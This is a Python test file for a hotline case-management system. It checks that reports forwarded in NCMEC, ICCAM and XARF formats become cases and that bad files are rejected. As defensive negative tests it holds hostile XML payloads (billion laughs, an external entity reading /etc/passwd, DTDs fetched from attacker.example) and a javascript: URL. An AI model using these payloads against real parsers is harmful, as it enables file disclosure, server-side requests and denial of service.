"""Forwards from foreign hotlines: each format read back into a new case of the
``hotline`` channel, hashes kept, the sender recorded; a malformed or hostile file is
refused with every problem listed, and nothing is saved."""

from __future__ import annotations

import json

import pytest

from tellsafe.cases.models import Case, ContentItem
from tellsafe.core import audit
from tellsafe.core.errors import ApplicationError
from tellsafe.core.models import AuditEvent
from tellsafe.intake.models import Report
from tellsafe.matching.tests import factories as bank_factories
from tellsafe.routing.exchange import documents, importer
from tellsafe.routing.exchange.importer import import_forward
from tellsafe.routing.exchange.services import FORMATS, export_case
from tellsafe.routing.tests.exchange import helpers

pytestmark = pytest.mark.django_db
ACTOR = audit.Actor("staff", "1")


def counts() -> tuple[int, ...]:
    return (
        Case.objects.count(),
        Report.objects.count(),
        ContentItem.objects.count(),
        AuditEvent.objects.count(),
    )


def exported(fmt: str, **assessment) -> tuple[Case, bytes]:
    case = helpers.make_case()
    # The first URL serves a file whose hashes we know (as a forward would have said).
    item = ContentItem.objects.filter(case=case, kind="url").order_by("pk").first()
    item.md5, item.sha256 = helpers.MD5, helpers.SHA256
    item.save(update_fields=["md5", "sha256"])
    content = export_case(
        case_id=case.pk, fmt=fmt, assessment=helpers.assessment(**assessment), actor=ACTOR
    ).content
    return case, content


@pytest.mark.parametrize("fmt", FORMATS)
def test_round_trip_makes_a_hotline_case_with_urls_and_hashes(fmt):
    original, content = exported(fmt)
    result = import_forward(data=content, fmt=fmt, source="Hotline Beta (DE)")

    assert result.created and result.case_id != original.pk
    report = Report.objects.get(pk=result.report_id)
    assert report.channel == "hotline"
    assert report.reporter_kind == "professional"
    assert (report.contact_kind, report.contact_value, report.contact_hash) == ("none", "", "")
    assert [c.code for c in report.categories.all()] == ["csam"]
    assert report.details.startswith("Forwarded by the hotline Hotline Beta (DE)")
    # Their reference: our case's, or (XARF) the notice's own id.
    reference = json.loads(content)[0]["report_id"] if fmt == "xarf" else "TSIN-CASE"
    assert reference in report.details
    assert helpers.NARRATIVE not in report.details  # it was never sent

    items = {i.url: i for i in ContentItem.objects.filter(case_id=result.case_id, kind="url")}
    assert set(items) == {helpers.URL, helpers.URL_2}
    first = items[helpers.URL]
    assert (first.md5, first.sha256) == (helpers.MD5, helpers.SHA256)
    assert first.match_summary == {"matches": [], "actionable": False, "suppressed": False}
    assert items[helpers.URL_2].md5 == ""
    media = list(ContentItem.objects.filter(case_id=result.case_id, kind="media"))
    if fmt == "ncmec":  # only CyberTipline file details carry hashes without a URL
        (item,) = media
        assert (item.md5, item.sha256, item.pdq) == (helpers.MD5, helpers.SHA256, helpers.PDQ)
        assert item.match_summary is not None and not item.media_pending
    else:
        assert media == []
    assert result.urls == 2 and result.hashed == (2 if fmt == "ncmec" else 1)

    event = AuditEvent.objects.filter(action="exchange.import").get()
    assert event.object_id == str(result.case_id)
    assert event.data["source"] == "Hotline Beta (DE)"
    assert event.data["format"] == fmt
    if fmt != "ncmec":  # a CyberTipline report has no reference field
        assert event.data["reference"].startswith(reference)
    assert AuditEvent.objects.filter(action="report.create", object_id=str(result.case_id))


def test_imported_hashes_are_looked_up_in_the_banks():
    bank = bank_factories.bank()
    bank_factories.add(bank, helpers.MD5, hash_type="md5")
    _case, content = exported("ncmec")
    result = import_forward(data=content, fmt="ncmec", source="Hotline Beta")
    media = ContentItem.objects.get(case_id=result.case_id, kind="media")
    assert media.match_summary["actionable"] is True
    assert media.match_summary["matches"][0]["bank"] == "iwf-list"


def test_the_same_file_from_the_same_hotline_is_one_case():
    _case, content = exported("iccam-json")
    first = import_forward(data=content, fmt="iccam-json", source="Hotline Beta")
    before = counts()
    again = import_forward(data=content, fmt="iccam-json", source="hotline beta")
    assert (again.case_id, again.created) == (first.case_id, False)
    assert counts() == before
    other = import_forward(data=content, fmt="iccam-json", source="Hotline Gamma")
    assert other.created and other.case_id != first.case_id


def test_xarf_grooming_forward_maps_to_grooming():
    _case, content = exported("xarf", category="grooming", legal_basis="national")
    result = import_forward(data=content, fmt="xarf", source="Hotline Beta")
    report = Report.objects.get(pk=result.report_id)
    assert [c.code for c in report.categories.all()] == ["grooming"]
    assert "document names the sender Tellsafe National Hotline" in report.details


def test_ai_generated_iccam_forward_keeps_the_flag_as_a_category():
    _case, content = exported("iccam-csv", flags=frozenset({"ai_generated"}), age_band="infant")
    result = import_forward(data=content, fmt="iccam-csv", source="Hotline Beta")
    report = Report.objects.get(pk=result.report_id)
    assert {c.code for c in report.categories.all()} == {"csam", "csam_generated"}
    assert report.age_band == "under_9"


# --- refused, nothing saved -------------------------------------------------------------


def refused(data: bytes, fmt: str, code: str | None = None) -> ApplicationError:
    before = counts()
    with pytest.raises(ApplicationError) as caught:
        import_forward(data=data, fmt=fmt, source="Hotline Beta")
    assert counts() == before
    if code:
        assert caught.value.code == code, caught.value.as_dict()
    return caught.value


def test_a_document_missing_required_fields_lists_every_problem():
    _case, content = exported("iccam-json")
    document = json.loads(content)
    del document["hotlineReference"]
    del document["urls"][1]["assessment"]
    document["urls"][0]["assessment"]["classification"] = 9
    error = refused(json.dumps(document).encode(), "iccam-json", "invalid_document")
    problems = error.fields["file"]
    assert any("hotlineReference" in p for p in problems)
    assert any(p.startswith(".urls[1]") and "assessment" in p for p in problems)
    assert any(p.startswith(".urls[0].assessment.classification") for p in problems)


def test_a_report_missing_its_reporter_is_refused():
    _case, content = exported("ncmec")
    broken = content.replace(b"<reporter>", b"<!-- -->").replace(b"</reporter>", b"")
    error = refused(broken, "ncmec", "invalid_document")
    assert error.fields["file"]


def test_a_bad_url_refuses_the_whole_file():
    _case, content = exported("xarf")
    reports = json.loads(content)
    reports[1]["url"] = "javascript:alert(1)"
    error = refused(json.dumps(reports).encode(), "xarf", "invalid_forward")
    assert "[1]" in error.fields


def test_a_failure_while_saving_leaves_nothing(monkeypatch):
    _case, content = exported("ncmec")

    def explode(**kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(importer, "_attach", explode)
    before = counts()
    with pytest.raises(RuntimeError):
        import_forward(data=content, fmt="ncmec", source="Hotline Beta")
    assert counts() == before


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE report [
 <!ENTITY a "lol">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
]>
<report><additionalInfo>&d;</additionalInfo></report>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<report><additionalInfo>&secret;</additionalInfo></report>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE report SYSTEM "http://attacker.example/evil.dtd">
<report/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<report/>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_hostile_xml_is_refused(data):
    error = refused(data, "ncmec", "unsafe_xml")
    assert "passwd" not in json.dumps(error.as_dict())


def test_schema_location_hints_in_a_document_are_never_followed(monkeypatch):
    def no_network(*args, **kwargs):
        raise AssertionError("the network was used")

    monkeypatch.setattr("urllib.request.urlopen", no_network)
    data = (
        b'<report xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        b'xsi:noNamespaceSchemaLocation="http://attacker.example/x.xsd"><victim/></report>'
    )
    refused(data, "ncmec", "invalid_document")


@pytest.mark.parametrize(
    ("data", "fmt", "code"),
    [
        (b"<report><unclosed></report>", "ncmec", "malformed_xml"),
        (b"<report>" + b"<x>" * 5000 + b"</x>" * 5000 + b"</report>", "ncmec", "malformed_xml"),
        (b"", "xarf", "invalid_file"),
        (b"{" * 100000 + b"}" * 100000, "xarf", "malformed_json"),
        (b'{"asn": NaN}', "iccam-json", "malformed_json"),
        (b"\xff\xfe\x00", "iccam-json", "malformed_json"),
        (b"[]", "xarf", "invalid_document"),
        (b"a,b\n1,2\n", "iccam-csv", "invalid_document"),
        (b" " + b"x" * documents.MAX_IMPORT_BYTES, "xarf", "file_too_large"),
    ],
)
def test_malformed_files_are_refused(data, fmt, code):
    refused(data, fmt, code)


def test_unknown_format_and_missing_sender_are_refused():
    _case, content = exported("xarf")
    with pytest.raises(ApplicationError) as caught:
        import_forward(data=content, fmt="stix", source="Hotline Beta")
    assert caught.value.code == "unknown_format"
    for source in ("", "   ", "x" * 121, "two\nlines"):
        with pytest.raises(ApplicationError) as caught:
            import_forward(data=content, fmt="xarf", source=source)
        assert caught.value.code == "invalid_source"
